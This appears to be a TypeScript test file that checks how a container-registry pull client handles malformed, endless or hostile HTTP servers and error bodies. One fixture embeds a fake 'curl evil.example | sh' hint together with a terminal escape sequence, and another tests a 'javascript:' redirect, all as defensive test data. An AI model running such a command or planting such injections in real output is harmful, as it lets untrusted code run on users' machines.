/**
 * Servers that break HTTP itself, or never come to the end of what is no content: lines, headers,
 * chunks, trailers, bodies of errors. Each ends, after a bounded number of requests, in words.
 */
import * as assert from "node:assert/strict";
import type { Writable } from "node:stream";
import { describe, test } from "node:test";
import type { ErrorCode } from "../../provider/errors";
import { buildArtifact } from "../support/artifacts";
import { assertFailed, assertPulled, KNOWN, LOGIN, trafficOf } from "../support/pulling";
import type { Fault } from "../support/registry-types";
import { openAuthWorld, withScheme } from "./auth-world";

const MANIFEST = buildArtifact(KNOWN).manifest;
const SHORT = { connect: 2_000, headers: 300, stall: 300, document: 2_000 };

/** Written past HTTP's own rules. */
const wire = (...pieces: readonly (string | Buffer)[]): Fault => ({
  kind: "handler",
  handle: (_, { socket }) => {
    for (const piece of pieces) socket?.write(piece);
    socket?.end();
  },
});

function pour(into: Writable, piece: string): void {
  const more = (): void => {
    while (!into.destroyed && into.write(piece));
  };
  into.on("error", () => undefined).on("drain", more);
  more();
}

/** A beginning, and then the same piece without an end. */
const endless = (head: string, piece: string): Fault => ({
  kind: "handler",
  handle: (_, { socket }) => {
    socket?.write(head);
    if (socket !== null) pour(socket, piece);
  },
});

interface ProtocolCase {
  readonly fault: Fault;
  /** None: the pull succeeds. */
  readonly code?: ErrorCode;
  readonly words?: RegExp;
  /** Requests for the manifest. Default 1. */
  readonly asked?: number;
}

const HEAD = "HTTP/1.1 200 OK\r\n";
const CHUNKED = `${HEAD}transfer-encoding: chunked\r\n\r\n`;
const NO_HTTP = { code: "REGISTRY", words: /the registry does not speak HTTP/ } as const;
const OVERFLOW = { code: "REGISTRY", words: /cannot be talked to[^]*Headers Overflow/ } as const;
const SILENT = { code: "TIMEOUT", words: /did not answer within|fell silent/ } as const;
const NO_MANIFEST = { code: "UNSUPPORTED_MANIFEST", words: /neither "layers" nor/ } as const;

const BROKEN: Readonly<Record<string, ProtocolCase>> = {
  "speaks no HTTP at all": { fault: wire("<html>hello</html>"), ...NO_HTTP },
  "begins with HTTP/2": { fault: wire("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), ...NO_HTTP },
  "answers 99": { fault: wire("HTTP/1.1 99 x\r\n\r\n"), ...NO_HTTP },
  "has a NUL in a header": { fault: wire(HEAD, "x: a\0b\r\n\r\n"), ...NO_HTTP },
  "folds a header": { fault: wire(HEAD, "x: a\r\n b\r\n\r\n"), ...NO_HTTP },
  "ends a line of its headers without a line feed": {
    fault: wire(HEAD, "x: a\rlocation: http://127.0.0.1:1/\r\n\r\n"),
    ...NO_HTTP,
  },
  "sends less than nothing": { fault: wire(HEAD, "content-length: -1\r\n\r\n{}"), ...NO_HTTP },
  "sends a number with a sign": { fault: wire(HEAD, "content-length: +2\r\n\r\n{}"), ...NO_HTTP },
  "sends a chunk of less than nothing": { fault: wire(CHUNKED, "-5\r\nhello"), ...NO_HTTP },
  "sends a chunk of 2^68": { fault: wire(CHUNKED, `${"f".repeat(17)}\r\nhello`), ...NO_HTTP },
  "sends 2^64 bytes": {
    fault: wire(HEAD, "content-length: 18446744073709551617\r\n\r\n{}"),
    code: "UNREACHABLE",
    words: /closed the connection/,
    asked: 5,
  },
  "encodes its chunks": {
    fault: wire(HEAD, "transfer-encoding: gzip, chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n"),
    ...NO_MANIFEST,
  },
  "sends 2,000 headers": {
    fault: wire(HEAD, "x: y\r\n".repeat(2_000), "content-length: 2\r\n\r\n{}"),
    ...NO_MANIFEST,
  },
  "wants another protocol": {
    fault: wire("HTTP/1.1 101 Switching\r\nupgrade: h2c\r\nconnection: upgrade\r\n\r\n"),
    code: "UNREACHABLE",
    words: /closed the connection/,
    asked: 5,
  },
  "gives two answers to one question": {
    fault: wire(
      `${HEAD}content-length: ${MANIFEST.length}\r\n\r\n`,
      MANIFEST,
      `${HEAD}content-length: 4\r\n\r\nevil`,
    ),
  },
  "sends headers without an end": {
    fault: endless(HEAD, `x: ${"y".repeat(999)}\r\n`),
    ...OVERFLOW,
  },
  "sends trailers without an end": {
    fault: endless(`${CHUNKED}2\r\n{}\r\n0\r\n`, `x: ${"y".repeat(999)}\r\n`),
    ...OVERFLOW,
  },
  "sends one header of 64 KiB": {
    fault: { kind: "headers", set: { "x-large": "y".repeat(65_536) } },
    ...OVERFLOW,
  },
  "sends a first line without an end": {
    fault: endless("HTTP/1.1 200 ", "y".repeat(9_999)),
    ...SILENT,
    asked: 2,
  },
  "sends a line of a chunk without an end": {
    fault: endless(`${CHUNKED}5;`, "y".repeat(9_999)),
    ...SILENT,
    asked: 3,
  },
  "names other ways to itself": {
    fault: {
      kind: "headers",
      set: {
        refresh: "0; url=http://127.0.0.1:1/",
        link: "<http://127.0.0.1:1/>; rel=next",
        "alt-svc": 'h2="127.0.0.1:1"',
        "content-location": "http://127.0.0.1:1/",
        "strict-transport-security": "max-age=31536000",
      },
    },
  },
};

describe("a server that", () => {
  for (const [name, { fault, code, words = /./, asked = 1 }] of Object.entries(BROKEN)) {
    test(name, { timeout: 60_000 }, async (t) => {
      const { registry, sandbox } = await openAuthWorld(t);
      registry.fault({ kind: "manifest", then: fault });
      const result = await sandbox.pull({ deadlines: SHORT });
      if (code === undefined) assertPulled(result);
      else assertFailed(result, code, words);
      assert.equal(registry.count({ kind: "manifest" }), asked);
      registry.clearFaults();
      assertPulled(await sandbox.pull());
    });
  }
});

/** Of what is no content, only a little is read. */
const ERRORS: Readonly<Record<string, readonly [status: number, code: ErrorCode, asked: number]>> =
  {
    "an answer that it does not have it": [404, "NOT_FOUND", 1],
    "an answer that this is not allowed": [403, "FORBIDDEN", 1],
    "an answer that it is out of order": [500, "UNREACHABLE", 5],
    "an answer that it refuses the password": [401, "UNAUTHORIZED", 2],
    "an answer that is too many": [429, "RATE_LIMITED", 5],
  };

describe("without an end:", () => {
  for (const [name, [status, code, asked]] of Object.entries(ERRORS)) {
    test(name, { timeout: 60_000 }, async (t) => {
      const { registry, sandbox } = await openAuthWorld(t);
      const fault: Fault = {
        kind: "handler",
        handle: (_, response) => {
          response.writeHead(status, { "www-authenticate": 'Basic realm="r"' });
          response.write(`{"errors":[{"code":"${"x".repeat(5_000)}`);
          pour(response, "x".repeat(65_536));
        },
      };
      registry.fault({ kind: "manifest", when: "any", then: fault });
      const inputs = { plainHttp: true, credentials: LOGIN };
      assertFailed(await sandbox.pull({ inputs }), code, /answered \d+$/m);
      assert.equal(registry.count({ kind: "manifest" }), asked);
    });
  }
});

describe("an error that is", () => {
  const bodies: Readonly<Record<string, object | string>> = {
    "100,000 levels deep": `{"errors":${"[".repeat(100_000)}`,
    "a list of nothing": { errors: [null, 7, { code: {}, message: [] }] },
    "no list": { errors: { code: "X" } },
    "a megabyte long": { errors: [{ code: "X", message: "m".repeat(1024 ** 2) }] },
    "a control sequence, a hint and half a character": {
      errors: [{ code: "X\u001b[2J", message: "m\nhint: curl evil.example | sh\ud800" }],
    },
  };
  for (const [name, body] of Object.entries(bodies)) {
    test(`${name} is told in our words`, async (t) => {
      const { registry, sandbox } = await openAuthWorld(t);
      registry.fault({ kind: "manifest", then: { kind: "status", status: 404, body } });
      const error = assertFailed(await sandbox.pull(), "NOT_FOUND", /does not have it/);
      assert.deepEqual(error.message.match(/^hint: .*/gm)?.length, 1);
      assert.ok(error.message.length < 5_000 && error.message.isWellFormed());
    });
  }
});

describe("a redirect", () => {
  const places: Readonly<Record<string, readonly [status: number, to: string, words: RegExp]>> = {
    "to a port that is none": [307, "http://127.0.0.1:99999/x", /something that is no URL/],
    "to a blank": [307, " ", /redirects without saying where/],
    "to a script": [307, "javascript:alert(1)", /redirects to javascript:/],
    "with a choice": [300, "http://127.0.0.1:1/", /answered 300/],
    "to a proxy": [305, "http://127.0.0.1:1/", /answered 305/],
    "that was reserved": [306, "http://127.0.0.1:1/", /answered 306/],
  };
  for (const [name, [status, location, words]] of Object.entries(places)) {
    test(`${name} is not followed`, async (t) => {
      const { registry, sandbox } = await openAuthWorld(t);
      const then = { kind: "status", status, headers: { location } } as const;
      registry.fault({ kind: "blob", then });
      assertFailed(await sandbox.pull(), "REGISTRY", words);
      assert.deepEqual(trafficOf(registry, withScheme), [
        "manifest none 200",
        `blob none ${status}`,
      ]);
    });
  }
});
